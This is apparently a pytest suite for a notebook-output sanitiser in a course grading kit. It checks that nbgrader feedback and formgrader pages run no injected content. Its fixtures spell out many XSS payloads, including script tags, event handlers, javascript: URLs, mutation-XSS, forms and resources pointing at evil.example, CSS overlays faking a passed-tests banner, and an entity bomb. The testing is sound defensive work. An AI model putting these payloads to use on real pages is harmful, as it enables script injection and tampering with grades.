"""Untrusted outputs and markdown made safe to render (``filmkit.grading.sanitize``).

Unit tests of :func:`untrusted_outputs` for each kind of active content, and that honest outputs
keep what a marker reads; then the course's renderers (``assignments/nbgrader_config.py``): a
hostile notebook rendered by nbgrader's feedback exporter and by formgrader's, opened in
headless chromium, runs nothing and shows nothing it injected, while the same notebook rendered
by stock nbconvert does run its payload (so the payload is a real one).
"""

from __future__ import annotations

import base64
import contextlib
import copy
import html
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING, Any

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

from filmkit.course.folder import load_course
from filmkit.grading.sanitize import (
    MAX_CELL_MARKUP_CHARS,
    MAX_MARKUP_CHARS,
    NOT_SHOWN,
    MarkupBudget,
    clean_html,
    clean_svg,
    untrusted_markdown,
    untrusted_outputs,
)
from filmkit.paths import project_root
from tests.browser import block_remote, serve

if TYPE_CHECKING:
    from nbconvert import HTMLExporter
    from playwright.sync_api import Browser, Page
    from traitlets.config import Config

COURSE = project_root() / "assignments"
PWN = "window.__pwned=(window.__pwned||0)+1;document.title='pwned'"


def ran(label: str, *, window: str = "window") -> str:
    """JavaScript that records that the payload ``label`` ran (and retitles the page)."""
    return f"({window}.__ran={window}.__ran||[]).push('{label}');{window}.document.title='pwned'"


PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
JPEG = base64.b64encode(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(32)).decode()
SVG_NS = 'xmlns="http://www.w3.org/2000/svg"'


def display(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}


def html_of(outputs: list[dict[str, Any]]) -> str:
    (output,) = untrusted_outputs(outputs)
    return str(output["data"].get("text/html", ""))


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parsed(markup: str) -> _Tags:
    parser = _Tags()
    parser.feed(markup)
    parser.close()
    return parser


def attributes(markup: str) -> set[str]:
    return {name for _, attrs in parsed(markup).tags for name in attrs}


def tags(markup: str) -> set[str]:
    return {tag for tag, _ in parsed(markup).tags}


def valid(outputs: list[dict[str, Any]]) -> None:
    cell = new_code_cell("x", outputs=[nbformat.from_dict(o) for o in outputs])
    nbformat.validate(new_notebook(cells=[cell]))


# ---------------------------------------------------------------------------------------------
# each kind of active content


@pytest.mark.parametrize(
    "payload",
    [
        f"<script>{PWN}</script>",
        f"<SCRIPT type='text/javascript'>{PWN}</SCRIPT>",
        f"<script src='https://evil.example/x.js'></script><script>{PWN}",  # unterminated
        f"<scr<script>ipt>{PWN}</script>",
    ],
)
def test_script_elements_are_removed_with_their_code(payload: str) -> None:
    cleaned = html_of([display({"text/html": f"<p>before</p>{payload}<p>after</p>"})])
    assert "script" not in tags(cleaned) and "__pwned" not in cleaned
    assert "before" in cleaned


@pytest.mark.parametrize(
    "payload",
    [
        f'<img src="x" onerror="{PWN}">',
        f'<img src=x OnError="{PWN}">',
        f'<svg onload="{PWN}"></svg>',
        f'<body onload="{PWN}">',
        f'<details open ontoggle="{PWN}">x</details>',
        f'<div onmouseover="{PWN}" style="width:100%">hover</div>',
        f'<table background="javascript:{PWN}"><tr><td onclick="{PWN}">1</td></tr></table>',
    ],
)
def test_event_handler_attributes_are_dropped(payload: str) -> None:
    cleaned = html_of([display({"text/html": payload})])
    assert not {a for a in attributes(cleaned) if a.lower().startswith("on")}
    assert "background" not in attributes(cleaned)
    assert "__pwned" not in " ".join(v or "" for _, a in parsed(cleaned).tags for v in a.values())


@pytest.mark.parametrize(
    "href",
    [
        f"javascript:{PWN}",
        f"JaVaScRiPt:{PWN}",
        f"jav&#x09;ascript:{PWN}",
        f"&#106;avascript:{PWN}",
        f" \njavascript:{PWN}",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ],
)
def test_javascript_and_data_urls_are_dropped(href: str) -> None:
    cleaned = html_of(
        [display({"text/html": f'<a href="{href}">click</a><img src="{href}"><p>text</p>'})]
    )
    for _, attrs in parsed(cleaned).tags:
        assert "href" not in attrs and "src" not in attrs
    assert "click" in cleaned and "text" in cleaned


def test_honest_links_and_embedded_images_are_kept() -> None:
    cleaned = html_of(
        [
            display(
                {
                    "text/html": '<a href="https://variety.com/review">Variety</a>'
                    f'<img src="data:image/png;base64,{PNG}" alt="dot">'
                    '<img src="https://tracker.example/p.png"><img src="//tracker.example/p.png">'
                    '<img src="/logout"><img src="files/figure.png">'
                    '<a href="#top">top</a><a href="/formgrader/api/x">api</a>'
                }
            )
        ]
    )
    found = parsed(cleaned).tags
    assert ("a", {"href": "https://variety.com/review"}) in found
    assert ("a", {"href": "#top"}) in found
    assert ("img", {"src": f"data:image/png;base64,{PNG}", "alt": "dot"}) in found
    assert "tracker.example" not in cleaned  # no request leaves the page to an outside host
    # nor, with the marker's cookies, to formgrader's own server
    assert "logout" not in cleaned and "files/" not in cleaned and "/formgrader" not in cleaned


@pytest.mark.parametrize(
    "payload",
    [
        '<iframe src="https://evil.example/"></iframe>',
        f'<iframe srcdoc="&lt;script&gt;parent.{PWN}&lt;/script&gt;"></iframe>',
        '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>',
        '<embed src="https://evil.example/x.swf">',
        '<form action="https://evil.example/"><input name="password"><button>Save</button></form>',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<base href="https://evil.example/">',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        'onerror=alert(1)&gt;">',  # mutation XSS through foreign content
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    ],
)
def test_embedding_and_submitting_elements_are_removed(payload: str) -> None:
    cleaned = html_of([display({"text/html": f"{payload}<p>kept</p>"})])
    active = {"iframe", "object", "embed", "form", "input", "button", "link", "meta", "base"}
    assert not tags(cleaned) & (active | {"math", "mglyph", "style", "noscript", "img"})
    assert not {a for a in attributes(cleaned) if a.startswith("on")}
    assert "kept" in cleaned or payload.startswith("<math>")  # there the parser moves it away


def test_style_tricks_cannot_fake_a_passed_banner_or_hide_the_failures() -> None:
    payload = (
        "<style>.output_error { display: none !important } .panel-heading { display: none }"
        "</style>"
        '<div class="alert alert-success navbar-fixed-top" id="essay" name="score" '
        'style="position: fixed; top: 0; left: 0; right: 0; z-index: 99999; font-size: 40px; '
        'background: #dff0d8; text-align: center">✓ ALL TESTS PASSED</div>'
        '<div class="modal-backdrop in"></div>'
        '<span style="display: none">hidden</span><span style="visibility:hidden">ghost</span>'
        '<span style="color: white; opacity: 0; font-size: 0; margin-top: -900px">faint</span>'
        '<span style="text-indent: -9999px; transform: scale(0)">gone</span>'
        '<span style="text-align: url(https://evil.example/x); font-weight: bold">bold</span>'
        '<span style="font-weight: expression(alert(1)); font-style: italic">slanted</span>'
    )
    cleaned = html_of([display({"text/html": payload})])
    assert "style" not in tags(cleaned)
    for tag, attrs in parsed(cleaned).tags:
        assert "id" not in attrs and "name" not in attrs, tag
        assert attrs.get("class") is None, tag
        style = attrs.get("style") or ""
        for banned in ("position", "z-index", "display", "visibility", "opacity", "font-size"):
            assert banned not in style, (tag, style)
        assert not re.search(r"color|margin|indent|transform|url|expression", style), style
    # every word is still there, as plain text in the student's output area
    text = "".join(parsed(cleaned).text)
    for word in ("ALL TESTS PASSED", "hidden", "ghost", "faint", "gone", "bold", "slanted"):
        assert word in text
    assert 'style="text-align: center"' in cleaned
    assert 'style="font-weight: bold"' in cleaned and 'style="font-style: italic"' in cleaned


def test_svg_with_script_is_rebuilt_without_it() -> None:
    svg = (
        f'<svg {SVG_NS} xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="10" '
        f'onload="{PWN}" class="navbar-fixed-top">'
        f"<script>{PWN}</script><script xlink:href='https://evil.example/x.js'/>"
        '<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" '
        'src="https://evil.example/"/></foreignObject>'
        f'<a xlink:href="javascript:{PWN}"><text x="0" y="5">link</text></a>'
        '<image href="https://evil.example/p.png" width="5" height="5"/>'
        "<style>.output_error { display: none }</style>"
        f'<animate attributeName="href" to="javascript:{PWN}"/>'
        '<set attributeName="onmouseover" to="alert(1)"/>'
        '<use xlink:href="https://evil.example/sprite.svg#x"/>'
        '<defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient>'
        '<path id="m" d="M0 0L1 1"/></defs>'
        '<rect width="10" height="10" fill="url(#g)" style="fill: url(#g); stroke: black; '
        'position: fixed; fill-opacity: url(https://evil.example/x)"/>'
        '<rect width="5" height="5" fill="url(https://evil.example/x)"/>'
        '<use xlink:href="#m" x="3"/><text x="1" y="9">Distance &amp; tone</text></svg>'
    )
    (output,) = untrusted_outputs([display({"image/svg+xml": svg, "text/plain": "<Figure>"})])
    cleaned = output["data"]["image/svg+xml"]
    assert not tags(cleaned) & {"script", "foreignobject", "iframe", "a", "image", "style"}
    assert not tags(cleaned) & {"animate", "set"}
    assert "evil.example" not in cleaned and "__pwned" not in cleaned
    assert not {a for a in attributes(cleaned) if a.startswith("on")} and "class" not in cleaned
    assert 'fill="url(#g)"' in cleaned and 'xlink:href="#m"' in cleaned
    assert 'style="fill: url(#g); stroke: black"' in cleaned
    assert "Distance &amp; tone" in cleaned and "<stop " in cleaned
    assert clean_svg(cleaned) == cleaned  # the rebuilt SVG is a well-formed SVG document


@pytest.mark.parametrize(
    "svg",
    [
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        f"<svg {SVG_NS}>&b;</svg>",
        f'<!DOCTYPE svg SYSTEM "file:///etc/passwd"><svg {SVG_NS}/>',
        f"<svg {SVG_NS}><rect></svg",  # not well formed
        f"<svg><script>{PWN}</script></svg>",  # not in the SVG namespace: HTML, not an SVG file
        '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    ],
)
def test_what_is_not_an_svg_document_is_dropped(svg: str) -> None:
    (output,) = untrusted_outputs([display({"image/svg+xml": svg, "text/plain": "<Figure>"})])
    assert output["data"] == {"text/plain": "<Figure>"}


def test_markdown_output_is_rendered_and_sanitised_as_html() -> None:
    markdown = f'**bold** <script>{PWN}</script> <img src="x" onerror="{PWN}"> [a](javascript:x)'
    (output,) = untrusted_outputs([display({"text/markdown": markdown, "text/plain": "md"})])
    assert set(output["data"]) == {"text/html", "text/plain"}
    cleaned = output["data"]["text/html"]
    assert "<strong>bold</strong>" in cleaned
    assert "script" not in tags(cleaned) and "&lt;script&gt;" in cleaned  # shown as typed
    assert not {a for a in attributes(cleaned) if a.startswith("on")}
    assert "javascript" not in cleaned
    # an existing text/html wins; the markdown is never kept to be rendered again
    (both,) = untrusted_outputs([display({"text/markdown": "*x*", "text/html": "<i>x</i>"})])
    assert both["data"] == {"text/html": "<i>x</i>"}


@pytest.mark.parametrize(
    "mime, value",
    [
        ("application/javascript", PWN),
        ("text/javascript", PWN),
        ("application/x-javascript", PWN),
        ("application/ecmascript", PWN),
        ("application/vnd.jupyter.widget-view+json", {"model_id": "1", "version_major": 2}),
        ("application/vnd.jupyter.widget-state+json", {"state": {}}),
        ("application/vnd.plotly.v1+json", {"data": [], "layout": {"title": {"text": "<b>"}}}),
        ("text/vnd.mermaid", "graph TD; A-->B"),
        ("application/x-shockwave-flash", "AAAA"),
        ("text/x-anything", "text"),
    ],
)
def test_executable_widget_plotly_and_unknown_outputs_are_dropped(mime: str, value: Any) -> None:
    (alone,) = untrusted_outputs([display({mime: value})])
    assert alone["data"] == {"text/plain": NOT_SHOWN.format(mimes=mime)}
    (beside,) = untrusted_outputs([display({mime: value, "text/plain": "<IPython object>"})])
    assert beside["data"] == {"text/plain": "<IPython object>"}


def test_latex_is_kept_unless_it_makes_links_styles_or_html() -> None:
    (plain,) = untrusted_outputs([display({"text/latex": r"$\frac{a}{b}$", "text/plain": "a/b"})])
    assert plain["data"]["text/latex"] == r"$\frac{a}{b}$"
    for active in (r"\href{javascript:alert(1)}{x}", r"\style{position:fixed}{x}", r"\cssId{a}{x}"):
        (output,) = untrusted_outputs([display({"text/latex": f"${active}$", "text/plain": "t"})])
        assert output["data"] == {"text/plain": "t"}


def test_other_output_types_and_junk_are_left_out() -> None:
    junk: list[Any] = [
        {"output_type": "update_display_data", "data": {"text/plain": "x"}},
        {"output_type": "pwned"},
        "not a dict",
        None,
    ]
    assert untrusted_outputs(junk) == []


# ---------------------------------------------------------------------------------------------
# what a marker needs is kept


def test_a_dataframe_still_renders_as_a_table() -> None:
    import pandas as pd

    frame = pd.DataFrame({"source": ["variety", "vulture"], "words": [812, 1204]}, index=["a", "b"])
    result = {
        "output_type": "execute_result",
        "execution_count": 3,
        "data": {"text/html": frame._repr_html_(), "text/plain": repr(frame)},
        "metadata": {},
    }
    (output,) = untrusted_outputs([result])
    assert output["execution_count"] == 3 and output["data"]["text/plain"] == repr(frame)
    cleaned = output["data"]["text/html"]
    found = parsed(cleaned)
    names = [tag for tag, _ in found.tags]
    assert names.count("table") == 1 and "thead" in names and "tbody" in names
    assert names.count("th") == 5 and names.count("td") == 4
    assert ("table", {"border": "1", "class": "dataframe"}) in found.tags
    text = [t.strip() for t in found.text if t.strip()]
    assert text == ["source", "words", "a", "variety", "812", "b", "vulture", "1204"]
    assert "&lt;" not in cleaned  # nothing escaped into text, unlike nbconvert's clean_html
    assert "style" not in tags(cleaned)  # the <style scoped> block, not its text


def test_images_are_kept_when_they_are_what_they_claim() -> None:
    wrapped = "\n".join(PNG[i : i + 20] for i in range(0, len(PNG), 20))
    outputs = untrusted_outputs(
        [
            display({"image/png": wrapped, "text/plain": "<Figure>"}, {"image/png": {"width": 4}}),
            display({"image/jpeg": JPEG}),
            display({"image/png": JPEG, "text/plain": "not a png"}),
            display({"image/png": 'iVBOR" onerror="alert(1)', "text/plain": "not base64"}),
            display({"image/jpeg": ["/9j/", "4AAQ"], "text/plain": "list"}),
        ]
    )
    assert outputs[0]["data"] == {"image/png": PNG, "text/plain": "<Figure>"}
    assert outputs[0]["metadata"] == {"image/png": {"width": 4}}
    assert outputs[1]["data"] == {"image/jpeg": JPEG}
    assert outputs[2]["data"] == {"text/plain": "not a png"}
    assert outputs[3]["data"] == {"text/plain": "not base64"}
    assert outputs[4]["data"] == {"image/jpeg": "/9j/4AAQ", "text/plain": "list"}
    valid(outputs)


def test_text_streams_and_errors_are_kept_as_text() -> None:
    outputs: list[dict[str, Any]] = [
        {"output_type": "stream", "name": "stdout", "text": "<script>alert(1)</script>\n"},
        {"output_type": "stream", "name": "stderr", "text": ["warn", "ing\n"]},
        {"output_type": "stream", "name": "/dev/tty", "text": "x"},
        display({"text/plain": "“turns into a body-horror revenge thriller” (Variety)"}),
        {
            "output_type": "error",
            "ename": "AssertionError",
            "evalue": "expected 3 sources",
            "traceback": ["\x1b[0;31mAssertionError\x1b[0m: expected 3 sources"],
        },
    ]
    before = copy.deepcopy(outputs)
    cleaned = untrusted_outputs(outputs)
    assert outputs == before  # the input, which grading reads, is not changed
    assert cleaned[0] == outputs[0]
    assert cleaned[1] == {"output_type": "stream", "name": "stderr", "text": "warning\n"}
    assert cleaned[2]["name"] == "stdout"
    assert cleaned[3]["data"] == outputs[3]["data"]
    assert cleaned[4] == outputs[4]
    valid(cleaned)


def test_output_metadata_keeps_only_image_sizes() -> None:
    metadata = {
        "text/html": {"isolated": True},
        "image/png": {
            "width": 300,
            "height": "100 onload=alert(1)",
            "filenames": {"image/png": "javascript:alert(1)"},
            "alt": "a dot",
        },
        "filenames": {"image/png": "https://evil.example/x.png"},
        "needs_background": "light",
    }
    (output, transient) = untrusted_outputs(
        [
            display({"text/html": "<b>x</b>", "image/png": PNG}, metadata),
            {"output_type": "display_data", "data": {}, "metadata": {}, "transient": {"a": 1}},
        ]
    )
    assert output["metadata"] == {"image/png": {"width": 300, "alt": "a dot"}}
    assert set(transient) == {"output_type", "data", "metadata"}
    valid([output, transient])


def test_markup_is_sanitised_only_up_to_its_size_limits() -> None:
    """bleach is pure Python and quadratic on some markup: large values are not parsed."""
    import time

    bomb = "<div " + "a=1 " * 200_000 + ">"  # about six minutes for bleach
    started = time.perf_counter()
    (output,) = untrusted_outputs([display({"text/html": bomb, "text/plain": "frame"})])
    assert output["data"] == {"text/plain": "frame"}
    assert time.perf_counter() - started < 1
    assert "not shown" in clean_html(bomb) and len(clean_html(bomb)) < 200
    essay = "word " * (MAX_MARKUP_CHARS // 4)
    shown = untrusted_markdown(essay)  # too long to render: the source, as text
    assert "<pre>" in shown and html.unescape(shown).count("word") == essay.count("word")

    # per call, then per notebook
    piece = "<p>" + "x" * (MAX_MARKUP_CHARS - 10) + "</p>"
    many = [display({"text/html": piece, "text/plain": "t"})] * 6
    kept = [o for o in untrusted_outputs(many) if "text/html" in o["data"]]
    assert len(kept) == MAX_CELL_MARKUP_CHARS // len(piece)
    budget = MarkupBudget(2 * len(piece))
    first = untrusted_outputs(many[:1], budget=budget)
    second = untrusted_outputs(many[:2], budget=budget)
    third = untrusted_outputs(many[:1], budget=budget)
    assert [len(o["data"]) for o in first + second + third] == [2, 2, 1, 1]


MIMES = st.sampled_from(
    [
        "text/plain",
        "text/html",
        "text/markdown",
        "text/latex",
        "image/png",
        "image/jpeg",
        "image/gif",
        "image/svg+xml",
        "application/json",
        "application/javascript",
        "application/vnd.plotly.v1+json",
    ]
)
VALUES = st.one_of(
    st.text(max_size=40),
    st.lists(st.text(max_size=10), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
    st.integers(),
    st.none(),
    st.just(PNG),
    st.just(f"<svg {SVG_NS}><rect/></svg>"),
)
OUTPUTS = st.lists(
    st.fixed_dictionaries(
        {
            "output_type": st.sampled_from(
                ["stream", "error", "display_data", "execute_result", "other"]
            ),
            "name": st.one_of(st.text(max_size=8), st.none()),
            "text": VALUES,
            "data": st.one_of(st.dictionaries(MIMES | st.text(max_size=8), VALUES), VALUES),
            "metadata": st.one_of(st.dictionaries(MIMES, VALUES), VALUES),
            "execution_count": st.one_of(st.integers(), st.none(), st.text(max_size=3)),
            "ename": VALUES,
            "evalue": VALUES,
            "traceback": VALUES,
        }
    ),
    max_size=4,
)


@settings(max_examples=80, deadline=None)
@given(OUTPUTS)
def test_whatever_comes_out_of_the_sandbox_the_result_is_valid_nbformat(
    outputs: list[dict[str, Any]],
) -> None:
    before = copy.deepcopy(outputs)
    valid(untrusted_outputs(outputs))
    assert outputs == before


# ---------------------------------------------------------------------------------------------
# students' markdown


ESSAY = (
    "## essay\n\n"
    "The film “turns into a body-horror revenge thriller” (Variety), and “Lizzie's ordeal is "
    "filmed like a dare” (Vulture).\n\n"
    f"<script>{ran('essay-script')}</script>\n\n"
    f'<img src="x" onerror="{ran("essay-onerror")}">\n\n'
    "<style>.output_error { display: none } .nbgrader_cell .panel-heading { display: none }"
    "</style>\n\n"
    '<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 9999; '
    'background: white; font-size: 60px">ESSAY OVERLAY ✓ 10/10</div>\n\n'
    '<span style="display: none">HIDDEN IN ESSAY</span>\n\n'
    f"[click](javascript:{PWN}) and `<code>` and a < b & c\n"
)


def test_untrusted_markdown_shows_the_essay_as_written_and_runs_nothing() -> None:
    rendered = untrusted_markdown(ESSAY)
    assert not tags(rendered) & {"script", "style", "iframe"}
    assert not {a for a in attributes(rendered) if a.startswith("on")}
    assert not {a for a in attributes(rendered) if a in ("id", "name", "class")}
    assert "javascript" not in " ".join(
        v or "" for _, a in parsed(rendered).tags for v in a.values()
    )
    text = html.unescape("".join(parsed(rendered).text))
    assert "“turns into a body-horror revenge thriller” (Variety)" in text
    assert "“Lizzie's ordeal is filmed like a dare” (Vulture)" in text
    assert f"<script>{ran('essay-script')}</script>" in text  # as typed, as text
    assert "HIDDEN IN ESSAY" in text and "ESSAY OVERLAY" in text
    assert "a < b & c" in text and "<code>" in text
    for _, attrs in parsed(rendered).tags:
        assert "position" not in (attrs.get("style") or "")


def test_clean_html_accepts_what_the_templates_pass() -> None:
    from markupsafe import Markup

    assert clean_html(Markup("<b>x</b><script>1</script>")) == "<b>x</b>"
    assert clean_html(b"<i>y</i>") == "<i>y</i>"
    highlighted = '<div class="highlight hl-ipython3"><pre><span class="n">x</span></pre></div>'
    assert clean_html(highlighted) == highlighted  # syntax highlighting keeps its classes


# ---------------------------------------------------------------------------------------------
# the course's renderers


def course_config(*, sanitizing: bool = True) -> Config:
    config: Config = load_course(COURSE).config
    if not sanitizing:  # stock nbconvert rendering, everything else as the course has it
        del config.HTMLExporter["sanitize_html"]
        del config.HTMLExporter["filters"]
    return config


def feedback_exporter(config: Config) -> HTMLExporter:
    """The exporter nbgrader's ``GenerateFeedback.start`` builds from the course configuration,
    with its preprocessors but ``GetGrades``, which copies the scores from the gradebook into
    the cells and resources: here they are set by :func:`hostile_notebook`."""
    from nbgrader.converters import GenerateFeedback
    from nbgrader.coursedir import CourseDirectory
    from nbgrader.preprocessors import GetGrades

    converter = GenerateFeedback(coursedir=CourseDirectory(config=config), config=config)
    exporter: HTMLExporter = converter.exporter_class(parent=converter, config=converter.config)
    for preprocessor in converter.preprocessors:
        if preprocessor not in (GetGrades, "nbgrader.preprocessors.GetGrades"):
            exporter.register_preprocessor(preprocessor)
    return exporter


def formgrader_exporter() -> HTMLExporter:
    """The exporter formgrader renders submissions with, built as its
    ``FormgradeExtension.init_tornado_settings`` does: ``HTMLExporter(config=self.config)``
    after ``initialize`` (template ``formgrade``, then the course folder's nbgrader_config.py)."""
    from nbconvert import HTMLExporter
    from nbgrader.server_extensions.formgrader.formgrader import FormgradeExtension

    extension = FormgradeExtension()
    extension.initialize([], root=str(COURSE))
    return HTMLExporter(config=extension.config)


def test_the_course_config_sanitises_feedback_and_formgrader() -> None:
    from filmkit.grading import sanitize

    renderers = [
        (feedback_exporter(course_config()), "feedback"),
        (formgrader_exporter(), "formgrade"),
    ]
    for exporter, template in renderers:
        assert exporter.template_name == template
        assert exporter.sanitize_html is True
        env = exporter.environment
        assert env.filters["clean_html"] is sanitize.clean_html
        assert env.filters["markdown2html"] is sanitize.markdown2html


def nbgrader_meta(grade_id: str, **flags: Any) -> dict[str, Any]:
    meta = {"grade": False, "solution": False, "locked": False, "task": False}
    return {"nbgrader": {**meta, **flags, "grade_id": grade_id, "schema_version": 3}}


def student_outputs() -> list[dict[str, Any]]:
    """What the student's answer cell displayed: every kind of payload, and honest output."""
    import pandas as pd

    frame = pd.DataFrame({"source": ["variety", "vulture"], "words": [812, 1204]})
    banner = (
        "<style>.output_error { display: none !important } .panel-heading { display: none }"
        "</style>"
        '<div class="alert alert-success navbar-fixed-top" id="essay" '
        'style="position: fixed; top: 0; left: 0; right: 0; z-index: 99999; font-size: 40px; '
        'background: #dff0d8">✓ ALL TESTS PASSED</div><div class="modal-backdrop in"></div>'
        '<span style="display: none">HIDDEN BY STUDENT</span>'
    )
    svg = (
        f'<svg {SVG_NS} width="10" height="10" onload="{ran("svg-onload")}">'
        f'<script>{ran("svg-script")}</script><rect width="10" height="10"/></svg>'
    )
    in_frame = html.escape(f"<script>{ran('iframe', window='parent')}</script>")
    return [
        display({"text/html": f"<script>{ran('html-script')}</script><p>after the script</p>"}),
        display({"application/javascript": ran("javascript"), "text/plain": "<Javascript>"}),
        display(
            {
                "text/html": f'<img src="x" onerror="{ran("img-onerror")}">'
                f'<svg onload="{ran("inline-svg-onload")}"></svg>'
                f'<details open ontoggle="{ran("ontoggle")}">details</details>'
                f'<a class="js-link" href="javascript:{ran("link")}">click me</a>'
            }
        ),
        display(
            {
                "text/html": f'<iframe srcdoc="{in_frame}"></iframe>'
                f'<object data="data:text/html,{in_frame}"></object>'
                f'<embed src="data:text/html,{in_frame}">'
                '<form><input class="score" id="test_answer" value="1"></form>'
            }
        ),
        display({"text/html": banner, "text/plain": "banner"}),
        display({"image/svg+xml": svg, "text/plain": "<svg>"}),
        display({"text/markdown": f"**markdown** <script>{ran('markdown-output')}</script>"}),
        display({"application/vnd.jupyter.widget-view+json": {"model_id": "m1"}}),
        display({"application/vnd.plotly.v1+json": {"data": [], "layout": {}}}),
        {
            "output_type": "execute_result",
            "execution_count": 1,
            "data": {"text/html": frame._repr_html_(), "text/plain": repr(frame)},
            "metadata": {},
        },
        display({"image/png": PNG, "text/plain": "<Figure>"}),
        {"output_type": "stream", "name": "stdout", "text": "printed <b>text</b>\n"},
    ]


def hostile_notebook(*, sanitised: bool) -> nbformat.NotebookNode:
    """An autograded notebook as nbgrader's feedback preprocessors get it (scores in place)."""
    answer = new_code_cell(
        "show_everything()", metadata=nbgrader_meta("answer", solution=True), execution_count=1
    )
    test = new_code_cell(
        "assert len(sources) == 3",
        metadata=nbgrader_meta("test_answer", grade=True, locked=True, points=1, score=0),
        execution_count=2,
    )
    error = {
        "output_type": "error",
        "ename": "AssertionError",
        "evalue": "expected 3 sources",
        "traceback": ["AssertionError: expected 3 sources"],
    }
    raw = student_outputs()
    answer.outputs = [nbformat.from_dict(o) for o in (untrusted_outputs(raw) if sanitised else raw)]
    test.outputs = [nbformat.from_dict(o) for o in untrusted_outputs([error])]
    essay = new_markdown_cell(
        ESSAY, metadata=nbgrader_meta("essay", solution=True, grade=True, points=2, score=2)
    )
    intro = new_markdown_cell("# Hostile\n\nAnswer below.", metadata=nbgrader_meta("intro"))
    nb = new_notebook(cells=[intro, answer, test, essay])
    nb.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    nbformat.validate(nb)
    return nb


def render(exporter: HTMLExporter, nb: nbformat.NotebookNode, folder: Path) -> str:
    resources: dict[str, Any] = {
        "nbgrader": {"notebook": "hostile", "score": 2.0, "max_score": 3.0, "late_penalty": 0},
        # what formgrader's SubmissionHandler passes
        "assignment_id": "01-genre-shifts",
        "notebook_id": "hostile",
        "submission_id": "s1",
        "index": 0,
        "total": 1,
        "base_url": "",
        "student": "hostile",
        "last_name": "Student",
        "first_name": "Hostile",
        "notebook_path": "autograded/hostile/01-genre-shifts/hostile.ipynb",
        "metadata": {"path": str(folder)},
    }
    body, _ = exporter.from_notebook_node(nb, resources=resources)
    return str(body)


STUDENT_AREAS = ".output_area, .text_cell_render"
INSPECT = """() => {
  const areas = [...document.querySelectorAll(arguments_selector)];
  const inside = areas.flatMap(a => [...a.querySelectorAll('*')]);
  const active = inside.filter(e => ['SCRIPT', 'STYLE', 'IFRAME', 'OBJECT', 'EMBED', 'FORM',
    'INPUT', 'BUTTON', 'LINK', 'META', 'BASE', 'svg'].includes(e.tagName)).map(e => e.tagName);
  const handlers = inside.filter(e => [...e.attributes].some(a => /^on/i.test(a.name) ||
    /javascript:/i.test(a.value))).map(e => e.outerHTML.slice(0, 80));
  const positioned = inside.filter(e => ['fixed', 'absolute', 'sticky'].includes(
    getComputedStyle(e).position)).map(e => e.outerHTML.slice(0, 80));
  const covered = [...document.querySelectorAll(headers_selector)].filter(h => {
    h.scrollIntoView({block: 'center'});
    const r = h.getBoundingClientRect();
    const hit = document.elementFromPoint(r.left + 4, r.top + r.height / 2);
    return !(hit && (h.contains(hit) || hit.contains(h)));
  }).map(h => h.outerHTML.slice(0, 80));
  return {ran: window.__ran || [], title: document.title, active, handlers, positioned,
          covered, ids: document.querySelectorAll('#essay, #test_answer').length,
          scores: document.querySelectorAll('input.score').length,
          images: [...document.querySelectorAll('.output_area img[src^="data:image/png"]')].map(i => i.naturalWidth),
          headers: [...document.querySelectorAll('.output_area th')].map(t => t.textContent)};
}"""


def open_page(browser: Browser, folder: Path, name: str) -> tuple[Page, list[str]]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    remote = block_remote(context)  # MathJax from its CDN, and anything a payload fetches
    page = context.new_page()
    with serve(folder) as base:
        page.goto(f"{base}/{name}", wait_until="load")
        page.wait_for_timeout(700)  # onerror, ontoggle and timers fire after load
    return page, remote


@pytest.mark.slow
@pytest.mark.parametrize("renderer", ["feedback", "formgrader"])
def test_a_hostile_notebook_runs_nothing_where_it_is_read(
    renderer: str, browser: Browser, tmp_path: Path
) -> None:
    nb = hostile_notebook(sanitised=True)
    essay_before = nb.cells[3].source
    if renderer == "feedback":
        exporter, headers = feedback_exporter(course_config()), ".panel-heading"
    else:
        exporter, headers = formgrader_exporter(), ".panel-heading, input.score"
        from nbgrader.server_extensions.formgrader import handlers

        (tmp_path / "formgrader").mkdir()
        (tmp_path / "formgrader" / "static").symlink_to(handlers.static_path)  # its bootstrap
    page_html = render(exporter, nb, tmp_path)
    assert nb.cells[3].source == essay_before  # the essay itself is never changed
    (tmp_path / "hostile.html").write_text(page_html, encoding="utf-8")

    page, remote = open_page(browser, tmp_path, "hostile.html")
    try:
        script = INSPECT.replace("arguments_selector", repr(STUDENT_AREAS)).replace(
            "headers_selector", repr(headers)
        )
        seen = page.evaluate(script)
        text = page.inner_text("body")  # rendered text only: what display:none hides is absent
        error_visible = page.locator(".output_error").first.is_visible()
    finally:
        page.context.close()

    assert seen["ran"] == [] and seen["title"] == "hostile"
    assert seen["active"] == [] and seen["handlers"] == [] and seen["positioned"] == []
    assert seen["covered"] == []  # no overlay over the score headers or the score inputs
